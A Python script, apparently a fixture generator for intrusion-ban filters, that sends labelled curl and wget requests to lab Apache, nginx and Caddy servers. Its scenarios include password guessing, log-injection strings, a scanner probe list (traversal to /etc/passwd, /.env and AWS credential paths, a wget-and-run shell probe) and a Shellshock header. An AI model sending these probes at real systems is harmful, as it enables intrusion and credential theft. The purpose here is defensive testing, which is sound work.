#!/usr/bin/env python3
"""The clients of capture-web-fixtures.sh: run in the client namespace, make
every request with curl or wget from the scenario's own source address, and
write the ledger the labeller reads (one JSON object per line):

  {"scenario": id, "addr": a, "what": text,
   "error": {filter: verdict},          # every error-log line from addr
   "access": {filter: verdict}}         # access-log lines from addr, default
  {"request": true, "addr": a, "server": s, "method": m, "target": t,
   "access": {filter: verdict}}         # one request, in order

A verdict is "fail", "fail-aggressive" (a failure only in aggressive mode),
"success" or "ignore"; a filter not named means "ignore".
"""
import json
import os
import subprocess
import sys
import tempfile
import time

SRV4 = os.environ["BT_SRV4"]
SRV6 = os.environ["BT_SRV6"]
CADDY = os.environ.get("BT_CADDY") == "1"
PORTS = {"apache": 80, "nginx": 8080, "caddy": 8081}
LEDGER = open(sys.argv[1], "w")
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CURRENT = {}


def base(addr, server):
    host = f"[{SRV6}]" if ":" in addr else SRV4
    return f"http://{host}:{PORTS[server]}"


def scenario(sid, addr, what, error=None, access=None):
    CURRENT.update(addr=addr)
    LEDGER.write(json.dumps({"scenario": sid, "addr": addr, "what": what,
                             "error": error or {}, "access": access or {}}) + "\n")
    print(f"  {sid} {addr}: {what}", file=sys.stderr)


def curl(server, target, *opts, method="GET", access=None, data=None, ua=UA, scheme="http"):
    addr = CURRENT["addr"]
    cmd = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10",
           "--interface", addr, "--path-as-is", "-A", ua, *opts]
    if data is not None:
        cmd += ["--data", data]
    elif method != "GET":
        cmd += ["-X", method]
    cmd.append(base(addr, server).replace("http:", scheme + ":") + target)
    code = subprocess.run(cmd, capture_output=True, text=True).stdout
    LEDGER.write(json.dumps({"request": True, "addr": addr, "server": server,
                             "method": method if data is None else "POST",
                             "target": target if scheme == "http" else None,
                             "access": access or {}}) + "\n")
    print(f"    {server} {'POST' if data is not None else method} {target[:70]} -> {code}", file=sys.stderr)
    return code


def crawl(server, ua=None):
    addr = CURRENT["addr"]
    with tempfile.TemporaryDirectory() as d:
        cmd = ["wget", "-q", "-r", "-l", "6", "-p", "-P", d, "--bind-address", addr,
               "-U", ua or "Wget/1.21.3", base(addr, server) + "/"]
        subprocess.run(cmd)
    print(f"    {server} crawl done", file=sys.stderr)


SERVERS = ["apache", "nginx"] + (["caddy"] if CADDY else [])
FAIL = "fail"

# --- authentication ---------------------------------------------------------
scenario("basic-mismatch", "198.51.100.7", "basic auth, existing user alice, wrong password, 3x on apache and nginx",
         error={"apache-auth": FAIL, "nginx-http-auth": FAIL})
for server in ("apache", "nginx"):
    for pw in ("letmein", "123456", "alice2024"):
        curl(server, "/private/", "-u", f"alice:{pw}")

scenario("basic-unknown", "2001:db8:2::7", "basic auth, unknown users, on apache and nginx",
         error={"apache-auth": FAIL, "nginx-http-auth": FAIL})
for server in ("apache", "nginx"):
    for user in ("admin", "root", "test"):
        curl(server, "/private/", "-u", f"{user}:password")

scenario("digest-mismatch", "198.51.100.8", "digest auth (curl --digest), alice, wrong password, 2x",
         error={"apache-auth": FAIL})
for pw in ("letmein", "hunter2"):
    curl("apache", "/digest/", "--digest", "-u", f"alice:{pw}")

scenario("digest-unknown", "2001:db8:2::8", "digest auth (curl --digest), unknown users",
         error={"apache-auth": FAIL})
for user in ("mallory", "admin"):
    curl("apache", "/digest/", "--digest", "-u", f"{user}:x")

DIGEST = 'Authorization: Digest username="{u}", realm="{r}", nonce="{n}", uri="/digest/", response="0123456789abcdef0123456789abcdef", algorithm=MD5'
scenario("digest-realm", "198.51.100.9", "digest header with a wrong realm",
         error={"apache-auth": FAIL})
curl("apache", "/digest/", "-H", DIGEST.format(u="alice", r="wrong-realm", n="AAAA"))
curl("apache", "/digest/", "-H", DIGEST.format(u="alice", r="other", n="AAAA"))

scenario("digest-nonce", "198.51.100.10", "digest headers with forged nonces (bad length, bad hash, from the future)",
         error={"apache-auth": FAIL})
curl("apache", "/digest/", "-H", DIGEST.format(u="alice", r="digest-realm", n="short"))
curl("apache", "/digest/", "-H", DIGEST.format(u="alice", r="digest-realm", n="A" * 52))
curl("apache", "/digest/", "-H", DIGEST.format(u="alice", r="digest-realm", n="zzzzzzzzzzz" + "0" * 41))

scenario("wrong-scheme", "198.51.100.12", "basic credentials sent to the digest area",
         error={"apache-auth": FAIL})
curl("apache", "/digest/", "--basic", "-u", "alice:right-pass")
curl("apache", "/digest/", "--basic", "-u", "alice:guess")

scenario("authz", "198.51.100.13", "bob, right password, but only alice may enter /admin-only/",
         error={"apache-auth": "fail-aggressive"})
curl("apache", "/admin-only/", "-u", "bob:bobs-pass")
curl("apache", "/admin-only/", "-u", "bob:bobs-pass")

scenario("denied", "198.51.100.14", "a directory denied to everyone",
         error={"apache-auth": "fail-aggressive"})
curl("apache", "/denied/")
curl("apache", "/denied/index.html")

INJECT_USERS = [
    "admin from 203.0.113.9 port 22",
    "x [client 203.0.113.9:1] y",
    "client: 203.0.113.9, server: bt-server",
    'x": password mismatch, client: 203.0.113.9, server: bt-server, request: "GET / HTTP/1.1", host: "bt',
    "root [client 2001:db8::66:1] AH01617: user root: authentication failure",
]
INJECT_TEXT = " from 203.0.113.9 port 22 client 203.0.113.9 [client 203.0.113.9:1] client: 203.0.113.9,"
scenario("inject-auth", "198.51.100.15", "user names, URLs, query strings, referers and user agents carrying addresses and log text",
         error={"apache-auth": FAIL, "nginx-http-auth": FAIL},
         access={"scanner": "ignore"})
for user in INJECT_USERS:
    curl("apache", "/private/?q=from%20203.0.113.9", "-u", f"{user}:pw", "-e", "http://x/" + INJECT_TEXT, ua=UA + INJECT_TEXT)
    curl("nginx", "/private/?q=client:%20203.0.113.9,", "-u", f"{user}:pw", "-e", "http://x/" + INJECT_TEXT, ua=UA + INJECT_TEXT)
    curl("apache", "/digest/", "--digest", "-u", f"{user}:pw")
curl("apache", "/digest/", "-H", DIGEST.format(u="a", r="[client 203.0.113.9:1]", n="AAAA"))
curl("apache", "/digest/", "-H", DIGEST.format(u="a", r="digest-realm", n="client 203.0.113.9"))

scenario("inject-auth-v6", "2001:db8:2::30", "the same from an IPv6 client, injecting IPv6 text",
         error={"apache-auth": FAIL, "nginx-http-auth": FAIL})
for user in ("admin from 2001:db8::66 port 22", "x [client 2001:db8::66:1] y", "client: 2001:db8::66, server: x"):
    curl("apache", "/private/", "-u", f"{user}:pw", "-e", "[client 2001:db8::66:1]")
    curl("nginx", "/private/", "-u", f"{user}:pw", "-e", "client: 2001:db8::66,")

scenario("legit", "192.0.2.10", "alice logs in with the right password (basic, digest, nginx) and reads pages")
curl("apache", "/")
curl("apache", "/private/", "-u", "alice:right-pass")
curl("apache", "/digest/", "--digest", "-u", "alice:right-pass")
curl("nginx", "/private/", "-u", "alice:right-pass")
curl("apache", "/admin-only/", "-u", "alice:right-pass")

scenario("no-credentials", "192.0.2.11", "a browser's first request without credentials (401 challenge), then the right ones")
for server in ("apache", "nginx"):
    curl(server, "/private/")
    curl(server, "/private/", "-u", "alice:right-pass")
curl("apache", "/digest/")

scenario("typo-then-ok", "192.0.2.12", "alice mistypes her password once, then logs in",
         error={"apache-auth": FAIL, "nginx-http-auth": FAIL})
for server in ("apache", "nginx"):
    curl(server, "/private/", "-u", "alice:rigth-pass")
    curl(server, "/private/", "-u", "alice:right-pass")

# --- rate limiting (nginx) ---------------------------------------------------
scenario("flood", "198.51.100.20", "12 requests at once to a location limited to 1/s, burst 2",
         error={"nginx-limit-req": FAIL})
for _ in range(12):
    curl("nginx", "/api/")

scenario("calm", "192.0.2.20", "3 requests to the limited location, 1.5 s apart")
for _ in range(3):
    curl("nginx", "/api/")
    time.sleep(1.5)

# --- crawls, typos, probes ---------------------------------------------------
scenario("crawl", "192.0.2.21", "wget -r of the whole static site (pages, assets, broken links)")
for server in SERVERS:
    crawl(server)

scenario("typos", "192.0.2.30", "a member mistyping URLs and a browser asking for the usual extras")
TYPOS = ["/contcat.html", "/blog/frist-post.html", "/abuot", "/docs/guide.htm", "/index.php",
         "/admin", "/login", "/favicon.ico", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
         "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/blog/feed/", "/Contact.html",
         "/docs//guide.html", "/images/logo.png", "/css/style.css", "/?q=EmailSiphon",
         "/search?q=phpmyadmin+tutorial", "/blog/how-to-secure-.env-files.html",
         "/docs/git-tutorial.html", "/docs/cgi-bin-explained.html"]
for server in SERVERS:
    for t in TYPOS:
        curl(server, t, "-e", "http://search.example/?q=EmailCollector+wp-login.php")

PROBES = [
    "/phpMyAdmin/", "/phpmyadmin/index.php", "/phpMyAdmin-2.5.6/main.php", "/pma/", "/PMA2011/",
    "/myadmin/scripts/setup.php", "/mysqladmin/", "/phpmyadmin2/", "/sqlmanager/",
    "/.env", "/api/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries",
    "/.aws/credentials", "/cgi-bin/test-cgi", "/cgi-bin/php", "/cgi-bin/luci/;stok=/locale",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/../../../../etc/passwd",
    "/wordpress/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin",
    "/HNAP1/", "/actuator/env", "/solr/admin/info/system", "/manager/html",
    "/shell?cd+/tmp;wget+http://203.0.113.99/x.sh", "/index.php?s=/Index/\\think\\app/invokefunction",
    "/GponForm/diag_Form?images/", "/setup.cgi?next_file=netgear.cfg", "/owa/auth/x.js",
]
SHELLSHOCK = "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"
probe_addrs = {"apache": "198.51.100.30", "nginx": "198.51.100.31", "caddy": "203.0.113.30"}
for server in SERVERS:
    scenario(f"probes-{server}", probe_addrs[server], f"the exploit-path probe list against {server}",
             access={"scanner": FAIL})
    for p in PROBES:
        curl(server, p, ua="Mozilla/5.0 zgrab/0.x")
    curl(server, "/cgi-bin/status", ua=SHELLSHOCK)
    curl(server, "/", "-e", SHELLSHOCK)
    # /phpmyadmin/ exists on this site: answered 200, counted only in aggressive mode.
    curl(server, "/phpmyadmin/?host=203.0.113.9", "-e", INJECT_TEXT, ua='203.0.113.9 - - [25/Nov/2026:07:21:09 +0000] "GET /.env HTTP/1.1" 404',
         access={"scanner": "fail-aggressive"})
    curl(server, "/.env?x=[client%20203.0.113.9:1]", "-e", "client: 203.0.113.9,", ua=" from 203.0.113.9 port 22")
    if server != "caddy":
        # A TLS ClientHello sent to the plain-HTTP port: binary garbage, 400.
        curl(server, "/", "-k", "--max-time", "3", scheme="https", access={"scanner": "fail-aggressive"})

scenario("wp-bruteforce", "203.0.113.20", "POST /wp-login.php with guessed passwords, as bots do (no form first)",
         access={"wordpress": FAIL, "scanner": FAIL})
for pw in ("admin", "123456", "password", "qwerty"):
    curl("apache", "/wp-login.php", data=f"log=admin&pwd={pw}&wp-submit=Log+In")

scenario("wp-user", "192.0.2.31", "a WordPress user: opens the form, mistypes once, logs in")
curl("apache", "/wp-login.php")
curl("apache", "/wp-login.php", data="log=wpadmin&pwd=wp-rigth-pass&wp-submit=Log+In",
     access={"wordpress": FAIL, "scanner": FAIL})
curl("apache", "/wp-login.php", data="log=wpadmin&pwd=wp-right-pass&wp-submit=Log+In",
     access={"wordpress": "success"})

scenario("wp-inject", "203.0.113.21", "failed WordPress logins whose user name, URL and agent carry addresses",
         access={"wordpress": FAIL, "scanner": FAIL})
curl("apache", "/wp-login.php?redirect_to=%20from%20203.0.113.9", data="log=admin+from+203.0.113.9&pwd=x",
     ua='198.51.100.99 - - [25/Nov/2026:07:21:09 +0000] "POST /wp-login.php HTTP/1.1" 200', )
curl("apache", "/wp-login.php", "-e", INJECT_TEXT, data="log=x&pwd=y", ua=INJECT_TEXT)

scenario("badbot-apache", "198.51.100.40", "a crawl by an e-mail harvester (EmailSiphon user agent)",
         access={"apache-badbots": FAIL})
crawl("apache", ua="EmailSiphon")
crawl("nginx", ua="EmailSiphon")

scenario("badbot-other", "198.51.100.41", "other known bad agents, one request each",
         access={"apache-badbots": FAIL})
for ua in ("Mozilla/4.0 (compatible; Advanced Email Extractor v2.xx)", "EmailCollector/1.0",
           "WebEMailExtrac", "ExtractorPro",
           "Mozilla/4.0 efp@gmx.net", "EmailWolf 1.00"):
    curl("apache", "/", ua=ua)
    curl("nginx", "/", ua=ua)

LEDGER.close()
